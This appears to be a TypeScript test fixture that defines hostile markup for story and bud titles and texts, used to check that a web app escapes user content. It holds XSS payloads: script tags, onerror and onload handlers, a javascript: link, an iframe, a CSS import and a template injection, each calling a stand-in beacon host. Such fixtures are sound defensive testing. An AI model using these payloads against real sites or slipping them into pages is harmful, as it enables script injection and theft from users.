// Markup and script written into bud records. Every payload's only effect, if anything ever runs it
// or renders it as HTML, is a request to the beacon at hostile.example/beacon (recorded by the
// sandbox): one beacon hit anywhere fails the page being attacked. `what` says which payload fired.

export const BEACON = 'https://hostile.example/beacon'
const beacon = (what: string) => `${BEACON}?what=${what}`

/** The story's root title: attribute break-out, an image, an inline handler, a template injection. */
export const HOSTILE_STORY_TITLE =
  `"><img src="${beacon('story-title-img')}" onerror="fetch('${beacon('story-title-onerror')}')">` +
  `{{constructor.constructor('fetch("${beacon('story-title-template')}")')()}}`

export const HOSTILE_STORY_TEXT = `<script>fetch('${beacon('story-text-script')}')</script>`

/** The bud's title: a script element, a remote image (fires even where a CSP stops scripts), an
 * erroring image with an inline handler, a javascript: link. */
export const HOSTILE_BUD_TITLE =
  `<script>fetch('${beacon('bud-title-script')}')</script>` +
  `<img src="${beacon('bud-title-img')}">` +
  `<img src=x onerror="navigator.sendBeacon('${beacon('bud-title-onerror')}')">` +
  `<a href="javascript:fetch('${beacon('bud-title-href')}')">read</a>`

export const HOSTILE_BUD_TEXT =
  `<svg onload="fetch('${beacon('bud-text-svg')}')"></svg>` +
  `<iframe src="${beacon('bud-text-iframe')}"></iframe>` +
  `<style>@import url("${beacon('bud-text-css')}");</style>`
